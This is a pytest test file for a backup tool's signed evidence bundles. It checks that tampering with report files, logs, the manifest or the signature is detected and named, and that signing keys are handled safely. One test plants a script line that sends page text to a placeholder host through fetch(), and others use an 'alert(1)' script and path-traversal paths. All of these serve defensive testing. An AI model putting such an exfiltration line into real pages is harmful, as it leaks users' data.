"""The signed evidence bundle: every alteration of a run folder is found and named, keys behave."""

from __future__ import annotations

import hashlib
import hmac
import json
import stat
import tarfile
import tempfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from verification.cli import app
from verification.config import load_settings
from verification.errors import ConfigError, SourceError
from verification.evidence import (
    FileHash,
    generate_key_pair,
    hash_source_files,
    load_public_key_file,
    load_signer,
    load_verifier,
    parse_sha256sums,
    render_sha256sums,
    verify_bundle,
    write_bundle,
)
from verification.evidence.bundle import EvidenceError
from verification.sources import LocalSource

runner = CliRunner()
HMAC_SECRET = "correct-horse-battery-staple-0123456789"


@pytest.fixture(autouse=True)
def isolated_settings(tmp_path, monkeypatch):
    # Nothing may read the developer's configuration or write a key into their home.
    monkeypatch.setenv("RESTOREPROOF_STATE_DIR", str(tmp_path / "state"))
    for name in ("RESTOREPROOF_CONFIG", "RESTOREPROOF_EVIDENCE__SIGNING", "RESTOREPROOF_EVIDENCE__SIGNING_KEY",
                 "RESTOREPROOF_EVIDENCE__SIGNING_KEY_FILE"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def backups(tmp_path) -> Path:
    root = tmp_path / "repo"
    (root / "backup" / "demo1" / "20261122-195034F").mkdir(parents=True)
    (root / "backup" / "demo1" / "backup.info").write_text("[backrest]\nbackrest-format=5\n")
    # Larger than one 8 MiB chunk, so hashing must join chunks correctly.
    (root / "backup" / "demo1" / "20261122-195034F" / "base.bundle").write_bytes(bytes(range(256)) * 40000)
    (root / "backup" / "demo1" / "empty").write_bytes(b"")
    return root


BACKUP_PATHS = ["backup/demo1/backup.info", "backup/demo1/20261122-195034F/base.bundle", "backup/demo1/empty"]


@pytest.fixture
def run_dir(tmp_path, backups) -> Path:
    run = tmp_path / "reports" / "run-20261122-2000"
    evidence = run / "evidence" / "demo1"
    evidence.mkdir(parents=True)
    (run / "report.json").write_text(json.dumps({"run_id": "run-20261122-2000", "verdict": "passed"}))
    (run / "report.html").write_text("<html><body>passed</body></html>\n")
    (evidence / "server.log").write_text("LOG:  database system is ready to accept connections\n")
    (evidence / "pg_amcheck.out").write_text("")  # an empty output is evidence too
    (evidence / "pgbackrest-restore.log").write_text("INFO: restore command end: completed successfully\n")
    hashes = hash_source_files(LocalSource(backups), BACKUP_PATHS)
    (evidence / "backup-files.sha256").write_text(render_sha256sums(hashes))
    return run


def files_of(run: Path) -> list[str]:
    return sorted(p.relative_to(run).as_posix() for p in run.rglob("*") if p.is_file())


# --- backup hashes -----------------------------------------------------------------------------------


def test_hash_source_files_matches_hashlib(backups):
    hashes = hash_source_files(LocalSource(backups), BACKUP_PATHS)
    assert [h.path for h in hashes] == BACKUP_PATHS
    for item in hashes:
        data = (backups / item.path).read_bytes()
        assert item == FileHash(item.path, len(data), hashlib.sha256(data).hexdigest())


def test_hash_source_files_names_an_unreadable_file(backups):
    with pytest.raises(SourceError, match="backup/demo1/gone"):
        hash_source_files(LocalSource(backups), ["backup/demo1/backup.info", "backup/demo1/gone"])


def test_sha256sums_round_trip_and_format():
    hashes = [FileHash("a/b.txt", 3, "ab" * 32), FileHash("odd\\name\nx", 1, "cd" * 32)]
    text = render_sha256sums(hashes)
    assert text.splitlines()[0] == f"{'ab' * 32}  a/b.txt"
    assert text.splitlines()[1] == f"\\{'cd' * 32}  odd\\\\name\\nx"  # GNU sha256sum's escaping
    assert parse_sha256sums(text) == {"a/b.txt": "ab" * 32, "odd\\name\nx": "cd" * 32}
    assert parse_sha256sums(f"{'EF' * 32} *bin.dat\n\n") == {"bin.dat": "ef" * 32}
    with pytest.raises(ValueError, match="line 2"):
        parse_sha256sums(f"{'ab' * 32}  ok\nnot a hash line\n")


# --- round trip and tampering -----------------------------------------------------------------------


def test_round_trip_verifies(run_dir, backups):
    settings = load_settings()
    info = write_bundle(run_dir, settings, extra={"tools": {"pgbackrest": "2.45"}})
    assert info.run_id == "run-20261122-2000" and info.algorithm == "ed25519"
    manifest = json.loads((run_dir / "manifest.json").read_text())
    assert manifest["format"] == "restoreproof-evidence/1"
    assert manifest["key_id"] == info.key_id and len(info.key_id) == 16
    assert [f["path"] for f in manifest["files"]] == [p for p in files_of(run_dir) if not p.startswith("manifest.")]
    assert manifest["extra"] == {"tools": {"pgbackrest": "2.45"}}
    base = backups / "backup/demo1/20261122-195034F/base.bundle"
    assert manifest["backup_files"]["demo1"]["backup/demo1/20261122-195034F/base.bundle"] == \
        hashlib.sha256(base.read_bytes()).hexdigest()
    # What is on disk is exactly what was signed: canonical JSON, nothing reformatted.
    assert (run_dir / "manifest.json").read_bytes() == json.dumps(
        manifest, sort_keys=True, separators=(",", ":")).encode()
    assert (run_dir / "manifest.sig").read_text().startswith(f"restoreproof-signature/1 ed25519 {info.key_id}\n")

    result = verify_bundle(run_dir, load_verifier(settings))
    assert result.ok, result.findings
    assert result.files_checked == info.files == 6
    assert result.key_id == info.key_id and result.run_id == "run-20261122-2000"


# Every file the run_dir fixture makes (parametrize needs the list before the fixture runs; the test
# checks the two agree, so a file added to the fixture cannot go untested).
BUNDLED = ["evidence/demo1/backup-files.sha256", "evidence/demo1/pg_amcheck.out",
           "evidence/demo1/pgbackrest-restore.log", "evidence/demo1/server.log", "report.html", "report.json"]


@pytest.mark.parametrize("relative", BUNDLED)
def test_changing_one_byte_of_any_file_is_named(run_dir, relative):
    settings = load_settings()
    write_bundle(run_dir, settings)
    assert [p for p in files_of(run_dir) if not p.startswith("manifest.")] == BUNDLED
    victim = run_dir / relative
    data = bytearray(victim.read_bytes())
    before, size = hashlib.sha256(data).hexdigest(), len(data)
    if data:
        data[len(data) // 2] ^= 0x01  # one byte, same size
    else:
        data = bytearray(b"x")  # an empty file can only gain a byte
    victim.write_bytes(bytes(data))

    result = verify_bundle(run_dir, load_verifier(settings))
    assert not result.ok
    (finding,) = result.findings
    assert finding.path == relative and finding.kind == "changed"
    assert finding.message.startswith(f"{relative}: SHA-256 differs from the manifest (expected {before}, found ")
    assert ("size differs" in finding.message) == (size == 0)


def test_size_change_is_named(run_dir):
    settings = load_settings()
    write_bundle(run_dir, settings)
    log = run_dir / "evidence/demo1/server.log"
    size = log.stat().st_size
    log.write_text(log.read_text() + "LOG:  appended later\n")
    (finding,) = verify_bundle(run_dir, load_verifier(settings)).findings
    assert "evidence/demo1/server.log: SHA-256 differs" in finding.message
    assert f"size differs from the manifest (expected {size} bytes, found {log.stat().st_size})" in finding.message


def test_deleted_and_added_files_are_named(run_dir):
    settings = load_settings()
    write_bundle(run_dir, settings)
    (run_dir / "evidence/demo1/pg_amcheck.out").unlink()
    (run_dir / "evidence/demo1/planted.txt").write_text("not from the run\n")
    findings = verify_bundle(run_dir, load_verifier(settings)).findings
    assert [(f.path, f.kind) for f in findings] == [("evidence/demo1/pg_amcheck.out", "missing"),
                                                   ("evidence/demo1/planted.txt", "added")]
    assert findings[0].message.startswith("evidence/demo1/pg_amcheck.out: missing")
    assert findings[1].message.startswith("evidence/demo1/planted.txt: present but not in the manifest")


def test_editing_the_manifest_to_hide_a_change_breaks_the_signature(run_dir):
    settings = load_settings()
    info = write_bundle(run_dir, settings)
    log = run_dir / "evidence/demo1/server.log"
    log.write_text("LOG:  nothing to see here\n")
    manifest = json.loads((run_dir / "manifest.json").read_text())
    for entry in manifest["files"]:
        if entry["path"] == "evidence/demo1/server.log":
            entry["sha256"] = hashlib.sha256(log.read_bytes()).hexdigest()
            entry["size"] = log.stat().st_size
    (run_dir / "manifest.json").write_bytes(json.dumps(manifest, sort_keys=True, separators=(",", ":")).encode())

    findings = verify_bundle(run_dir, load_verifier(settings)).findings
    assert [f.message for f in findings] == [
        f"manifest.json: signature does not verify with key {info.key_id} (manifest.json or manifest.sig was altered)"]


def test_reformatting_the_manifest_breaks_the_signature(run_dir):
    settings = load_settings()
    write_bundle(run_dir, settings)
    manifest = json.loads((run_dir / "manifest.json").read_text())
    (run_dir / "manifest.json").write_text(json.dumps(manifest, indent=2))
    (finding,) = verify_bundle(run_dir, load_verifier(settings)).findings
    assert finding.kind == "bad-signature"


def test_missing_signature_means_unsigned(run_dir):
    settings = load_settings()
    write_bundle(run_dir, settings)
    (run_dir / "manifest.sig").unlink()
    (finding,) = verify_bundle(run_dir, load_verifier(settings)).findings
    assert finding.kind == "unsigned" and finding.message == "manifest.sig: missing; the bundle is unsigned"


def test_missing_manifest_is_a_finding(run_dir):
    (finding,) = verify_bundle(run_dir, load_verifier(load_settings_with_auto_key())).findings
    assert finding.path == "manifest.json" and finding.kind == "unsigned"


def load_settings_with_auto_key():
    settings = load_settings()
    load_signer(settings)  # makes the state folder's key
    return settings


def test_a_different_key_fails_naming_the_key_ids(run_dir, tmp_path):
    settings = load_settings()
    info = write_bundle(run_dir, settings)
    other = generate_key_pair(tmp_path / "other.pem")
    result = verify_bundle(run_dir, load_public_key_file(other.public_path))
    (finding,) = result.findings
    assert finding.kind == "wrong-key"
    assert finding.message == f"manifest.sig: signed with key {info.key_id}, not the expected key {other.key_id}"


def test_forging_the_key_id_in_the_signature_file_does_not_help(run_dir, tmp_path):
    settings = load_settings()
    info = write_bundle(run_dir, settings)
    other = generate_key_pair(tmp_path / "other.pem")
    sig = run_dir / "manifest.sig"
    sig.write_text(sig.read_text().replace(info.key_id, other.key_id))
    (finding,) = verify_bundle(run_dir, load_public_key_file(other.public_path)).findings
    assert finding.kind == "bad-signature" and other.key_id in finding.message


def test_hmac_mode_round_trip_and_wrong_secret(run_dir, monkeypatch):
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING", "hmac")
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY", HMAC_SECRET)
    settings = load_settings()
    info = write_bundle(run_dir, settings)
    assert info.algorithm == "hmac"
    assert info.key_id == "hmac:" + hmac.new(HMAC_SECRET.encode(), b"restoreproof evidence key id", hashlib.sha256).hexdigest()[:16]
    assert (run_dir / "manifest.sig").read_text().startswith(f"restoreproof-signature/1 hmac {info.key_id}\n")
    assert verify_bundle(run_dir, load_verifier(settings)).ok
    assert not (settings.state_dir / "evidence-signing.pem").exists()

    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY", HMAC_SECRET + "-other")
    (finding,) = verify_bundle(run_dir, load_verifier(load_settings())).findings
    assert finding.kind == "wrong-key" and info.key_id in finding.message
    assert HMAC_SECRET not in finding.message


def test_hmac_secret_from_a_file_with_a_trailing_newline(run_dir, tmp_path, monkeypatch):
    secret_file = tmp_path / "secret"
    secret_file.write_text(HMAC_SECRET + "\n")
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING", "hmac")
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY_FILE", str(secret_file))
    signer = load_signer(load_settings())
    assert signer.key_id == "hmac:" + hmac.new(HMAC_SECRET.encode(), b"restoreproof evidence key id", hashlib.sha256).hexdigest()[:16]
    assert HMAC_SECRET not in repr(signer)


def test_an_ed25519_verifier_refuses_an_hmac_bundle(run_dir, monkeypatch):
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING", "hmac")
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY", HMAC_SECRET)
    info = write_bundle(run_dir, load_settings())
    monkeypatch.delenv("RESTOREPROOF_EVIDENCE__SIGNING")
    monkeypatch.delenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY")
    (finding,) = verify_bundle(run_dir, load_verifier(load_settings_with_auto_key())).findings
    assert finding.kind == "wrong-key" and f"signed with hmac key {info.key_id}" in finding.message


# --- keys ---------------------------------------------------------------------------------------------


def test_auto_key_is_made_once_with_mode_0600_and_reused(tmp_path):
    settings = load_settings()
    key_file = tmp_path / "state" / "evidence-signing.pem"
    assert settings.state_dir / "evidence-signing.pem" == key_file and not key_file.exists()
    first = load_signer(settings)
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    content = key_file.read_bytes()
    second = load_signer(load_settings())
    assert second.key_id == first.key_id and key_file.read_bytes() == content
    assert [p.name for p in key_file.parent.iterdir()] == ["evidence-signing.pem"]  # no temporary left


def test_verifier_never_makes_a_key(tmp_path):
    with pytest.raises(ConfigError, match="no evidence signing key is configured"):
        load_verifier(load_settings())
    assert not (tmp_path / "state" / "evidence-signing.pem").exists()


def test_configured_pem_key_text_and_file_give_the_same_key_id(tmp_path, monkeypatch):
    pair = generate_key_pair(tmp_path / "keys" / "signing.pem")
    assert stat.S_IMODE(pair.private_path.stat().st_mode) == 0o600
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY_FILE", str(pair.private_path))
    from_file = load_signer(load_settings())
    monkeypatch.delenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY_FILE")
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY", pair.private_path.read_text())
    from_text = load_signer(load_settings())
    assert from_file.key_id == from_text.key_id == pair.key_id == load_public_key_file(pair.public_path).key_id
    assert not (tmp_path / "state" / "evidence-signing.pem").exists()


def test_keygen_refuses_to_overwrite(tmp_path):
    pair = generate_key_pair(tmp_path / "k.pem")
    with pytest.raises(ConfigError, match="already exists"):
        generate_key_pair(pair.private_path)


def test_secrets_never_appear_in_errors(tmp_path, monkeypatch):
    pair = generate_key_pair(tmp_path / "k.pem")
    pem = pair.private_path.read_text()
    secret_line = pem.splitlines()[1]
    # A damaged PEM key in the configuration: the message names the setting, never the text.
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY", pem.replace(secret_line, secret_line[::-1]))
    with pytest.raises(ConfigError) as caught:
        load_signer(load_settings())
    assert "evidence.signing_key" in str(caught.value)
    assert secret_line not in str(caught.value) and secret_line[::-1] not in str(caught.value)
    assert caught.value.__cause__ is None and caught.value.__suppress_context__

    # An HMAC secret where an Ed25519 key belongs.
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY", HMAC_SECRET)
    with pytest.raises(ConfigError) as caught:
        load_verifier(load_settings())
    assert HMAC_SECRET not in str(caught.value)

    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY_FILE", str(pair.private_path))
    with pytest.raises(ConfigError, match="not both") as caught:
        load_signer(load_settings())
    assert HMAC_SECRET not in str(caught.value) and secret_line not in str(caught.value)


def test_secrets_never_appear_in_findings(run_dir, tmp_path, monkeypatch):
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING", "hmac")
    monkeypatch.setenv("RESTOREPROOF_EVIDENCE__SIGNING_KEY", HMAC_SECRET)
    settings = load_settings()
    write_bundle(run_dir, settings)
    (run_dir / "report.html").write_text("altered")
    (run_dir / "manifest.json").write_text((run_dir / "manifest.json").read_text().replace("run-", "RUN-"))
    result = verify_bundle(run_dir, load_verifier(settings))
    text = json.dumps(result.to_json()) + repr(result) + repr(load_signer(settings))
    assert len(result.findings) == 2
    assert HMAC_SECRET not in text


# --- archives and CLI ---------------------------------------------------------------------------------


def test_a_tar_gz_of_the_run_folder_verifies_and_its_temporary_copy_is_removed(run_dir, tmp_path, monkeypatch):
    settings = load_settings()
    write_bundle(run_dir, settings)
    (run_dir / "report.html").write_text("altered")
    archive = tmp_path / "run.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(run_dir, arcname=run_dir.name)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    monkeypatch.setattr(tempfile, "tempdir", None)  # re-read TMPDIR
    (finding,) = verify_bundle(archive, load_verifier(settings)).findings
    assert finding.path == "report.html" and finding.kind == "changed"
    assert list(scratch.iterdir()) == []


# --- the report folder's shared plotly.js, which report.html runs --------------------------------------

SHARED = "../assets/plotly-4.1.1.min.js"


@pytest.fixture
def shared_asset(run_dir) -> Path:
    asset = run_dir.parent / "assets" / "plotly-4.1.1.min.js"
    asset.parent.mkdir()
    asset.write_text("/* plotly.js */ var Plotly = {};\n")
    return asset


def test_the_shared_plotly_is_signed_and_checked_where_it_is(run_dir, shared_asset):
    settings = load_settings()
    info = write_bundle(run_dir, settings, shared=[SHARED])
    manifest = json.loads((run_dir / "manifest.json").read_text())
    assert manifest["shared_files"] == [{"path": SHARED, "size": shared_asset.stat().st_size,
                                         "sha256": hashlib.sha256(shared_asset.read_bytes()).hexdigest()}]
    assert SHARED not in [f["path"] for f in manifest["files"]] and info.files == 6
    result = verify_bundle(run_dir, load_verifier(settings))
    assert result.ok and result.files_checked == 7 and result.shared_absent == []

    shared_asset.write_text("/* plotly.js */ fetch('https://example.invalid/?' + document.body.innerText);\n")
    (finding,) = verify_bundle(run_dir, load_verifier(settings)).findings
    assert finding.path == SHARED and finding.kind == "changed"
    assert "report.html runs another script than the one signed" in finding.message


def test_a_run_folder_copied_alone_verifies_and_names_the_shared_file_it_lacks(run_dir, shared_asset, tmp_path):
    settings = load_settings()
    write_bundle(run_dir, settings, shared=[SHARED])
    alone = tmp_path / "run.tar.gz"
    with tarfile.open(alone, "w:gz") as tar:
        tar.add(run_dir, arcname=run_dir.name)
    result = verify_bundle(alone, load_verifier(settings))
    assert result.ok and result.shared_absent == [SHARED] and result.files_checked == 6
    shown = runner.invoke(app, ["evidence", "verify", str(alone)])
    assert shown.exit_code == 0 and f"note: {SHARED} (signed) is not beside the run folder" in shown.stdout
    assert json.loads(runner.invoke(app, ["evidence", "verify", str(alone), "--json"]).stdout)["shared_absent"] == [
        SHARED]
    # With the report folder's assets beside it (`tar czf run.tar.gz -C REPORT_DIR RUN_ID assets`): checked too.
    both = tmp_path / "both.tar.gz"
    with tarfile.open(both, "w:gz") as tar:
        tar.add(run_dir, arcname=run_dir.name)
        tar.add(shared_asset.parent, arcname="assets")
    result = verify_bundle(both, load_verifier(settings))
    assert result.ok and result.shared_absent == [] and result.files_checked == 7
    # Anything else carried beside the run folder is unsigned: named, and the bundle does not verify.
    summary, extra = tmp_path / "SUMMARY.html", shared_asset.parent / "extra.js"
    summary.write_text("all backups passed")
    extra.write_text("alert(1)")
    more = tmp_path / "more.tar.gz"
    with tarfile.open(more, "w:gz") as tar:
        tar.add(run_dir, arcname=run_dir.name)
        tar.add(shared_asset.parent, arcname="assets")
        tar.add(summary, arcname="SUMMARY.html")
    result = verify_bundle(more, load_verifier(settings))
    assert not result.ok
    assert sorted((f.path, f.kind) for f in result.findings) == [("SUMMARY.html", "added"),
                                                                 ("assets/extra.js", "added")]


def test_only_the_report_folders_assets_can_be_shared(run_dir, shared_asset, tmp_path):
    settings = load_settings()
    for outside in ("../../secret.txt", "../assets/../x", "assets/x", "../other/x.js"):
        with pytest.raises(EvidenceError, match="is not a file the report folder shares"):
            write_bundle(run_dir, settings, shared=[outside])
    # A manifest naming another file is malformed, and nothing outside assets/ is read (signature aside).
    write_bundle(run_dir, settings, shared=[SHARED])
    manifest = json.loads((run_dir / "manifest.json").read_text())
    manifest["shared_files"][0]["path"] = "../../secret.txt"
    (run_dir / "manifest.json").write_bytes(json.dumps(manifest, sort_keys=True, separators=(",", ":")).encode())
    findings = verify_bundle(run_dir, load_verifier(settings)).findings
    assert [(f.path, f.kind) for f in findings] == [("manifest.json", "bad-signature"), ("manifest.json", "malformed")]


def test_a_path_that_does_not_exist_raises(tmp_path):
    with pytest.raises(EvidenceError, match="does not exist"):
        verify_bundle(tmp_path / "nope", load_verifier(load_settings_with_auto_key()))


def test_cli_verify_exit_codes(run_dir, tmp_path):
    write_bundle(run_dir, load_settings())
    ok = runner.invoke(app, ["evidence", "verify", str(run_dir)])
    assert ok.exit_code == 0, ok.output
    assert ok.stdout.startswith(f"bundle {run_dir}") and "intact: 6 file(s) match the manifest" in ok.stdout
    assert ok.stderr == ""

    (run_dir / "evidence/demo1/server.log").write_text("tampered\n")
    bad = runner.invoke(app, ["evidence", "verify", str(run_dir)])
    assert bad.exit_code == 1
    assert "evidence/demo1/server.log: SHA-256 differs from the manifest" in bad.stdout
    assert "NOT intact: 1 finding(s)" in bad.stdout

    as_json = runner.invoke(app, ["evidence", "verify", str(run_dir), "--json"])
    assert as_json.exit_code == 1
    report = json.loads(as_json.stdout)
    assert report["ok"] is False and report["findings"][0]["path"] == "evidence/demo1/server.log"

    missing = runner.invoke(app, ["evidence", "verify", str(tmp_path / "nope")])
    assert missing.exit_code == 2 and "does not exist" in missing.stderr and missing.stdout == ""


def test_cli_keygen_then_verify_with_the_public_key(run_dir, tmp_path):
    key = tmp_path / "auditor" / "signing.pem"
    made = runner.invoke(app, ["evidence", "keygen", "--out", str(key)])
    assert made.exit_code == 0, made.output
    key_id = made.stdout.strip()
    assert len(key_id) == 16 and f"public key:  {key}.pub" in made.stderr
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and (tmp_path / "auditor" / "signing.pem.pub").exists()
    assert key.read_text() not in made.output

    config = tmp_path / "restoreproof.yaml"
    config.write_text(f"evidence:\n  signing_key_file: {key}\n")
    write_bundle(run_dir, load_settings(config))
    checked = runner.invoke(app, ["evidence", "verify", str(run_dir), "--public-key", f"{key}.pub"])
    assert checked.exit_code == 0, checked.output
    assert key_id in checked.stdout

    wrong = runner.invoke(app, ["evidence", "verify", str(run_dir)])  # the state folder's key, not this one
    assert wrong.exit_code == 2 and "no evidence signing key is configured" in wrong.stderr
    again = runner.invoke(app, ["evidence", "keygen", "--out", str(key)])
    assert again.exit_code == 2 and "already exists" in again.stderr
